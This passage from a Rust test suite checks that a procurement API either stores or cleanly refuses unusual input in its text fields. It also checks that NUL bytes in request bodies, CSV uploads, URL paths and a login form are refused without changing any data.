                format!("/api/v1/rounds/{}/participations", self.round)
            }
            Field::UserName => format!("/api/v1/users?organization={A}&per_page=200"),
            Field::TokenName => "/api/v1/tokens".to_owned(),
            Field::OrganizationContactName => format!("/api/v1/organizations/{A}"),
        };
        let token = match field {
            Field::TokenName => &self.coordinator,
            _ => &self.admin,
        };
        let response = app.get(&path, token).await;
        assert_eq!(response.status, StatusCode::OK, "{path}: {}", response.text);
        response.body
    }

    /// The value stored, as the API returns it on the next read.
    async fn stored(&self, field: Field, answer: &Value) -> Value {
        let state = self.state(field).await;
        let find = |list: &Value, id: &Value| {
            list.as_array()
                .and_then(|items| items.iter().find(|item| item["id"] == *id).cloned())
                .unwrap_or(Value::Null)
        };
        let own_answer = || {
            state["items"]
                .as_array()
                .and_then(|items| {
                    items
                        .iter()
                        .find(|i| i["organization_id"] == answer["organization_id"])
                        .cloned()
                })
                .unwrap_or(Value::Null)
        };
        match field {
            Field::ProcurementTitle => state["title"].clone(),
            Field::ProcurementSummary => state["summary"].clone(),
            Field::Question => find(&state, &answer["id"])["question"].clone(),
            Field::Note => own_answer()["note"].clone(),
            Field::ContactName => own_answer()["contact"]["name"].clone(),
            Field::ContactEmail => own_answer()["contact"]["email"].clone(),
            Field::ContactPhone => own_answer()["contact"]["phone"].clone(),
            Field::UserName => find(&state["items"], &answer["user"]["id"])["display_name"].clone(),
            Field::TokenName => find(&state, &answer["id"])["name"].clone(),
            Field::OrganizationContactName => state["contacts"][0]["name"].clone(),
        }
    }

    /// The value in the success answer itself.
    fn returned(field: Field, answer: &Value) -> Value {
        match field {
            Field::ProcurementTitle => answer["title"].clone(),
            Field::ProcurementSummary => answer["summary"].clone(),
            Field::Question => answer["question"].clone(),
            Field::Note => answer["note"].clone(),
            Field::ContactName => answer["contact"]["name"].clone(),
            Field::ContactEmail => answer["contact"]["email"].clone(),
            Field::ContactPhone => answer["contact"]["phone"].clone(),
            Field::UserName => answer["user"]["display_name"].clone(),
            Field::TokenName => answer["name"].clone(),
            Field::OrganizationContactName => answer["contacts"][0]["name"].clone(),
        }
    }
}

/// Each hostile value in each main text field: stored exactly as the API document says (NFC,
/// trimmed) and read back so, or refused with 422 and the field error its rule gives, and then
/// nothing changed; never a 5xx or a database's words; the tables intact afterwards.
#[actix_web::test]
async fn hostile_text_in_every_text_field_is_stored_as_documented_or_refused_without_a_trace() {
    let app = spawn_app().await;
    let admin = app.admin_token().await;
    let coordinator = app.user("coordinator", A).await.token;
    let draft = app
        .ok(
            Method::POST,
            "/api/v1/procurements",
            &admin,
            Some(procurement_input("下書き", json!({}))),
        )
        .await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let procurement = app
        .published(&admin, procurement_input("共同調達 入力確認", json!({})))
        .await;
    let round = app.open_round(&admin, &procurement).await;
    let texts = Texts {
        app,
        admin,
        coordinator,
        draft,
        procurement,
        round,
    };
    let mut failures = Vec::new();
    for field in Field::ALL {
        for (name, value, fate) in hostile() {
            let before = texts.state(field).await;
            let response = texts.send(field, &value).await;
            let case = format!("{field:?} with {name}");
            if let Some(why) = unclean(response.status, response.content_type(), &response.text) {
                failures.push(format!("{case}: {why}: {}", response.text));
                continue;
            }
            let codes: Vec<&str> = response.body["errors"]
                .as_array()
                .map(|errors| errors.iter().filter_map(|e| e["code"].as_str()).collect())
                .unwrap_or_default();
            match (fate, response.status.is_success()) {
                (Fate::Stored, true) => {
                    let expected = normalized(&value);
                    let returned = Texts::returned(field, &response.body);
                    let stored = texts.stored(field, &response.body).await;
                    let fits = |v: &Value| match field {
                        // An address is stored in lower case.
                        Field::ContactEmail => {
                            v.as_str().map(str::to_lowercase) == Some(expected.to_lowercase())
                        }
                        _ => v.as_str() == Some(expected.as_str()),
                    };
                    if !fits(&returned) || !fits(&stored) {
                        failures.push(format!("{case}: sent {value:?}, answered {returned}, stored {stored}, expected {expected:?}"));
                    }
                }
                (Fate::Stored, false)
                    if field.has_format() && codes.contains(&"invalid_format") => {}
                (Fate::Refused(code), false)
                    if response.status == StatusCode::UNPROCESSABLE_ENTITY
                        && codes.contains(&code) => {}
                _ => failures.push(format!(
                    "{case}: expected {fate:?}, got {} {}",
                    response.status, response.text
                )),
            }
            if !response.status.is_success() {
                let after = texts.state(field).await;
                if after != before {
                    failures.push(format!(
                        "{case}: refused, but the state changed: {before} → {after}"
                    ));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} cases fail:\n{}",
        failures.len(),
        failures.join("\n")
    );
    let listed = texts.app.get("/api/v1/procurements", &texts.admin).await;
    assert_eq!(listed.status, StatusCode::OK, "{}", listed.text);
    assert_eq!(listed.body["total"], 2, "{}", listed.text);
}

/// A NUL in any string of a JSON body (not only in text fields: ids, codes, addresses), in a
/// cell of an uploaded sheet, or percent-encoded in a path, is refused as the client's mistake,
/// naming where, and changes nothing, on both databases (PostgreSQL cannot even compare text with
/// a NUL, so each of these was a 500 there).
#[actix_web::test]
async fn a_nul_anywhere_in_a_request_is_refused_as_the_clients_mistake() {
    let world = exposure().await;
    let app = &world.app;
    let admin = world.callers[0].token.as_str();
    let coordinator = world.callers[1].token.as_str();
    let nul = "a\u{0000}b";
    let (procurement, round) = (&world.procurements[0], &world.rounds[0]);
    let with = |overrides: Value| {
        let mut body = procurement_input("NUL確認", json!({}));
        for (k, v) in overrides.as_object().unwrap() {
            body[k] = v.clone();
        }
        body
    };
    #[rustfmt::skip]
    let cases: Vec<(Method, String, &str, Value, &str)> = vec![
        (Method::POST, "/api/v1/users".into(), admin, json!({"email": "nul@example.lg.jp", "display_name": "x", "role": "viewer", "organization": nul}), "organization"),
        (Method::POST, "/api/v1/procurements".into(), admin, with(json!({"lead_organization": nul})), "lead_organization"),
        (Method::POST, "/api/v1/procurements".into(), admin, with(json!({"eligibility": {"include": [A, nul]}})), "eligibility.include[1]"),
        (Method::PATCH, format!("/api/v1/procurements/{procurement}"), admin, json!({"lead_organization": nul}), "lead_organization"),
        (Method::POST, "/api/v1/webhooks".into(), admin, json!({"url": "https://203.0.114.10/k", "events": ["*"], "organization": nul}), "organization"),
        (Method::POST, "/api/v1/webhooks".into(), coordinator, json!({"url": format!("https://203.0.114.10/{nul}"), "events": ["*"]}), "url"),
        (Method::POST, format!("/api/v1/rounds/{round}/reminders"), admin, json!({"organizations": [nul]}), "organizations[0]"),
        (Method::POST, format!("/api/v1/rounds/{round}/estimate"), admin, json!({"participants": [{"organization": nul}]}), "participants[0].organization"),
        (Method::PUT, format!("/api/v1/rounds/{round}/participations/{A}"), coordinator, json!({"status": "joined", "selected_options": [nul]}), "selected_options[0]"),
        (Method::POST, "/api/v1/auth/login".into(), admin, json!({"email": nul, "password": "a wrong password"}), "email"),
    ];
    let state = || async {
        let mut state = Vec::new();
        for path in [
            "/api/v1/procurements",
            "/api/v1/users?per_page=200",
            "/api/v1/webhooks",
            "/api/v1/notifications?per_page=200",
        ] {
            state.push(app.get(path, admin).await.body);
        }
        state.push(
            app.get(&format!("/api/v1/procurements/{procurement}"), admin)
                .await
                .body,
        );
        state.push(
            app.get(&format!("/api/v1/rounds/{round}/participations"), admin)
                .await
                .body,
        );
        state
    };
    let before = state().await;
    let mut failures = Vec::new();
    for (method, path, token, body, field) in cases {
        let response = app
            .request(method.clone(), &path, Some(token), Some(body))
            .await;
        let named = response.body["errors"].as_array().is_some_and(|errors| {
            errors
                .iter()
                .any(|e| e["field"] == field && e["code"] == "invalid_characters")
        });
        if response.status != StatusCode::UNPROCESSABLE_ENTITY
            || response.body["code"] != "validation_failed"
            || !named
        {
            failures.push(format!(
                "{method} {path} ({field}): {} {}",
                response.status, response.text
            ));
        }
    }
    let sheet = format!(
        "団体コード,団体名,回答,オプション,数量,担当者,メール,電話,備考,回答日時\r\n{A}\u{0000},長野市,参加,,,,,,,\r\n"
    );
    let path = format!("/api/v1/rounds/{round}/participations:import?reason=x");
    let response = app
        .send_raw(
            Method::POST,
            &path,
            Some(admin),
            "text/csv",
            sheet.into_bytes(),
        )
        .await;
    if response.status != StatusCode::UNPROCESSABLE_ENTITY
        || !response.text.contains("invalid_characters")
    {
        failures.push(format!("import: {} {}", response.status, response.text));
    }
    for path in [
        format!("/api/v1/rounds/{round}%00"),
        "/api/v1/organizations/20201%001".to_owned(),
        "/api/v1/invitations/kyi_%00/accept".to_owned(),
    ] {
        let response = app.request(Method::GET, &path, Some(admin), None).await;
        if response.status != StatusCode::NOT_FOUND || response.body["code"] != "not_found" {
            failures.push(format!("GET {path}: {} {}", response.status, response.text));
        }
    }
    assert!(
        failures.is_empty(),
        "{} requests with a NUL are not refused as they should be:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert_eq!(state().await, before, "a refused request changed something");
}

/// The console's forms too: a NUL in a field (here the e-mail address at sign-in, looked up in
/// the database) is refused as a malformed form, on both databases, and signs nobody in.
#[actix_web::test]
async fn a_console_form_with_a_nul_is_refused_as_malformed() {
    let app = spawn_app().await;
    let mut browser = crate::console::Browser::new(&app);
    browser.get("/login").await;
    let fields = [
        ("email", "dx\u{0000}@pref.nagano.lg.jp"),
        ("password", "wrong password here"),
    ];
    let page = browser.submit("/login", &fields).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST, "{}", page.body);
    assert!(!browser.has_session());
    browser
        .sign_in(ADMIN_EMAIL, crate::helpers::ADMIN_PASSWORD)
        .await;
    let admin = app.admin_token().await;
    let procurement = app
        .published(&admin, procurement_input("共同調達 画面確認", json!({})))
        .await;
    browser.get(&format!("/procurements/{procurement}")).await;
    let path = format!("/procurements/{procurement}/questions");
    let page = browser.submit(&path, &[("question", "質問\u{0000}")]).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST, "{}", page.body);
    let questions = app.get(&format!("/api/v1/{}", &path[1..]), &admin).await;
    assert_eq!(questions.body, json!([]), "{}", questions.text);
}
